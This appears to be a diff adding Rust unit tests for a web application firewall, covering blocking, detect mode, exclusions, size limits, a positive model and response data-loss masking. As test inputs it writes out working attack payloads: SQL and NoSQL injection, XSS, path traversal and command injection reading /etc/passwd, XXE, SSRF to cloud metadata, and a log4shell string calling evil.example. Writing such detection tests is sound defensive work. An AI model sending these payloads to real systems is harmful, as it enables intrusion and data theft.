@@ -1,0 +1,343 @@
+use std::net::{IpAddr, Ipv4Addr};
+
+use http::{HeaderMap, HeaderName, HeaderValue};
+use portcullis_config::{WafMode, WafSpec};
+use portcullis_core::RequestView;
+
+use super::*;
+
+fn headers(list: &[(&str, &str)]) -> HeaderMap {
+    let mut h = HeaderMap::new();
+    for (k, v) in list {
+        h.append(
+            HeaderName::from_bytes(k.as_bytes()).unwrap(),
+            HeaderValue::from_str(v).unwrap(),
+        );
+    }
+    h
+}
+
+fn view<'a>(method: &'a str, target: &'a str, h: &'a HeaderMap) -> RequestView<'a> {
+    let (path, query) = match target.split_once('?') {
+        Some((p, q)) => (p, Some(q)),
+        None => (target, None),
+    };
+    RequestView {
+        method,
+        path,
+        query,
+        host: Some("api.example.com"),
+        headers: h,
+        client_ip: IpAddr::V4(Ipv4Addr::LOCALHOST),
+        route: "r",
+    }
+}
+
+fn waf() -> Waf {
+    Waf::from_spec(&WafSpec::default()).unwrap()
+}
+
+fn get(w: &Waf, target: &str) -> Result<Findings, Deny> {
+    let h = headers(&[("user-agent", "curl/8")]);
+    w.check_head(&view("GET", target, &h))
+}
+
+fn post(w: &Waf, ct: &str, body: &str) -> Result<Findings, Deny> {
+    let h = headers(&[
+        ("content-type", ct),
+        ("content-length", &body.len().to_string()),
+    ]);
+    let req = view("POST", "/api/items", &h);
+    let head = w.check_head(&req)?;
+    w.check_body(&req, &head, body.as_bytes(), false)
+}
+
+#[test]
+fn blocks_sql_injection_in_a_query_argument_and_names_rule_and_target() {
+    let deny = get(&waf(), "/search?q=1%27%20OR%20%271%27%3D%271").unwrap_err();
+    assert_eq!(deny.status, 403);
+    assert_eq!(deny.reason, "waf_blocked");
+    let detail = deny.log_detail.unwrap();
+    assert!(detail.contains("200001@args:q"), "{detail}");
+}
+
+#[test]
+fn passes_ordinary_api_requests() {
+    let w = waf();
+    assert!(get(&w, "/users/42?name=O%27Brien&sort=desc&page=2").is_ok());
+    assert!(get(&w, "/menu?text=select+your+plan+from+the+menu").is_ok());
+    assert!(post(
+        &w,
+        "application/json",
+        r#"{"name":"Mary O'Neil","note":"drop by at 5; update me"}"#
+    )
+    .is_ok());
+    assert!(post(
+        &w,
+        "application/x-www-form-urlencoded",
+        "comment=I+%3C3+this+%26+that&rating=5"
+    )
+    .is_ok());
+}
+
+#[test]
+fn blocks_attacks_in_every_body_kind() {
+    let w = waf();
+    assert!(post(
+        &w,
+        "application/json",
+        r#"{"user":{"bio":"<img src=x onerror=alert(1)>"}}"#
+    )
+    .is_err());
+    assert!(post(
+        &w,
+        "application/x-www-form-urlencoded",
+        "file=..%2F..%2F..%2Fetc%2Fpasswd"
+    )
+    .is_err());
+    let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; cat /etc/passwd\r\n--XyZ--\r\n";
+    assert!(post(&w, "multipart/form-data; boundary=XyZ", mp).is_err());
+    let xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>";
+    assert!(post(&w, "application/xml", xml).is_err());
+    assert!(post(
+        &w,
+        "application/json",
+        r#"{"username":{"$ne":null},"password":{"$ne":null}}"#
+    )
+    .is_err());
+}
+
+#[test]
+fn blocks_signature_categories() {
+    let w = waf();
+    for (what, target) in [
+        (
+            "log4shell",
+            "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+        ),
+        (
+            "ssrf",
+            "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+        ),
+        ("ssti", "/greet?name=%7B%7B7*7%7D%7D"),
+        ("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
+        ("crlf", "/r?next=%0d%0aSet-Cookie%3A%20a%3Db"),
+        ("php", "/p?x=%3C%3Fphp%20system(%27id%27)%3B"),
+        ("traversal in path", "/static/..%252f..%252fetc/passwd"),
+        (
+            "overlong traversal",
+            "/files?p=%c0%ae%c0%ae%2f%c0%ae%c0%ae%2fboot.ini",
+        ),
+    ] {
+        assert!(get(&w, target).is_err(), "{what} passed");
+    }
+}
+
+#[test]
+fn inspects_base64_encoded_values() {
+    // "<script>alert(1)</script>" base64-encoded.
+    assert!(get(&waf(), "/?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D").is_err());
+}
+
+#[test]
+fn detect_mode_reports_without_blocking() {
+    let spec = WafSpec {
+        mode: WafMode::Detect,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    let f = get(&w, "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").unwrap();
+    assert!(f.score >= 5);
+    assert_eq!(f.hits[0].category, "xss");
+    assert_eq!(f.hits[0].target, "args:q");
+    assert!(f.hits[0].fragment.contains("<script>"));
+}
+
+#[test]
+fn off_mode_inspects_nothing() {
+    let spec = WafSpec {
+        mode: WafMode::Off,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert_eq!(get(&w, "/?q=%3Cscript%3E").unwrap(), Findings::default());
+    assert_eq!(w.body_inspect_limit(), 0);
+}
+
+#[test]
+fn exclusion_for_one_target_allows_html_in_that_field_only() {
+    let spec = WafSpec {
+        exclusions: vec![(rules::XSS.id, Some("body:html".to_owned()))],
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert!(post(&w, "application/json", r#"{"html":"<svg onload=x()>"}"#).is_ok());
+    assert!(post(&w, "application/json", r#"{"title":"<svg onload=x()>"}"#).is_err());
+}
+
+#[test]
+fn exclusion_of_a_kind_covers_every_name_of_that_kind() {
+    let spec = WafSpec {
+        exclusions: vec![(rules::SQLI.id, Some("args".to_owned()))],
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert!(get(&w, "/?a=1%20union%20select%201,2").is_ok());
+}
+
+#[test]
+fn never_logs_cookie_values() {
+    let spec = WafSpec {
+        mode: WafMode::Detect,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    let h = headers(&[("cookie", "sid=1' or '1'='1")]);
+    let f = w.check_head(&view("GET", "/", &h)).unwrap();
+    assert_eq!(f.hits[0].target, "cookie:sid");
+    assert!(f.hits[0].fragment.is_empty());
+}
+
+#[test]
+fn limits_answer_with_their_own_status() {
+    let spec = WafSpec {
+        limit_uri_bytes: 16,
+        limit_json_depth: 2,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert_eq!(get(&w, "/a/very/long/path/indeed").unwrap_err().status, 414);
+    assert_eq!(
+        post(&w, "application/json", r#"{"a":{"b":{"c":{"d":1}}}}"#)
+            .unwrap_err()
+            .reason,
+        "waf_json_limits"
+    );
+    let h: Vec<(String, String)> = (0..120)
+        .map(|i| (format!("x-h{i}"), "v".to_owned()))
+        .collect();
+    let refs: Vec<(&str, &str)> = h.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+    let hm = headers(&refs);
+    assert_eq!(
+        waf().check_head(&view("GET", "/", &hm)).unwrap_err().status,
+        431
+    );
+}
+
+#[test]
+fn oversize_bodies_are_rejected_only_when_configured() {
+    let spec = WafSpec {
+        reject_oversize_body: true,
+        body_inspect_bytes: 8,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert!(w.reject_oversize_body());
+    let h = headers(&[("content-type", "text/plain")]);
+    let req = view("POST", "/", &h);
+    let d = w
+        .check_body(&req, &Findings::default(), b"0123456789", true)
+        .unwrap_err();
+    assert_eq!(d.status, 413);
+    assert!(!waf().reject_oversize_body());
+}
+
+#[test]
+fn flags_conflicting_framing_headers() {
+    let h = headers(&[("content-length", "4"), ("transfer-encoding", "chunked")]);
+    let d = waf().check_head(&view("POST", "/", &h)).unwrap_err();
+    assert!(d.log_detail.unwrap().contains("100004"));
+}
+
+#[test]
+fn positive_model_names_what_failed() {
+    let mut params = std::collections::BTreeMap::new();
+    params.insert("id".to_owned(), "integer".to_owned());
+    let spec = WafSpec {
+        positive_methods: Some(vec!["GET".to_owned(), "POST".to_owned()]),
+        positive_params: Some(params),
+        positive_content_types: Some(vec!["application/json".to_owned()]),
+        positive_body_schema: Some(serde_json::json!({
+            "type": "object", "required": ["name"], "additionalProperties": false,
+            "properties": { "name": { "type": "string", "maxLength": 10 } }
+        })),
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert!(get(&w, "/?id=12").is_ok());
+    let d = get(&w, "/?id=abc").unwrap_err();
+    assert_eq!(d.reason, "waf_positive_model");
+    assert!(d.message.contains("parameter id"), "{}", d.message);
+    assert!(get(&w, "/?debug=1").unwrap_err().message.contains("debug"));
+    let h = HeaderMap::new();
+    assert!(w
+        .check_head(&view("DELETE", "/", &h))
+        .unwrap_err()
+        .message
+        .contains("DELETE"));
+    assert!(post(&w, "application/json", r#"{"name":"ok"}"#).is_ok());
+    assert!(
+        post(&w, "application/json", r#"{"name":"ok","admin":true}"#)
+            .unwrap_err()
+            .message
+            .contains("admin")
+    );
+    assert!(post(&w, "text/plain", "hi")
+        .unwrap_err()
+        .message
+        .contains("text/plain"));
+}
+
+#[test]
+fn dlp_masks_luhn_valid_cards_and_keeps_the_last_four() {
+    let spec = WafSpec {
+        dlp_inspect_bytes: 4096,
+        dlp_cards: true,
+        dlp_secrets: true,
+        dlp_national_ids: true,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    assert_eq!(w.response_inspect_limit(), 4096);
+    let body = br#"{"card":"4111 1111 1111 1111","order":"1234567890123"}"#;
+    match w.inspect_response(Some("application/json"), body) {
+        DlpOutcome::Masked(b) => {
+            let s = String::from_utf8(b).unwrap();
+            assert!(s.contains("**** **** **** 1111"), "{s}");
+            assert!(s.contains("1234567890123"), "{s}");
+            assert_eq!(s.len(), body.len());
+        }
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(
+        w.inspect_response(Some("text/plain"), b"nothing here 12345"),
+        DlpOutcome::Pass
+    );
+}
+
+#[test]
+fn dlp_blocks_secrets_when_configured() {
+    let spec = WafSpec {
+        dlp_inspect_bytes: 4096,
+        dlp_secrets: true,
+        dlp_block: true,
+        ..WafSpec::default()
+    };
+    let w = Waf::from_spec(&spec).unwrap();
+    match w.inspect_response(None, b"key: AKIAABCDEFGHIJKLMNOP") {
+        DlpOutcome::Block(d) => {
+            assert_eq!(d.status, 502);
+            assert!(!d.log_detail.unwrap().contains("AKIA"));
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn every_rule_id_is_unique() {
+    let mut ids: Vec<u32> = rules::catalogue().iter().map(|r| r.id).collect();
+    let n = ids.len();
+    ids.sort_unstable();
+    ids.dedup();
+    assert_eq!(ids.len(), n);
+}
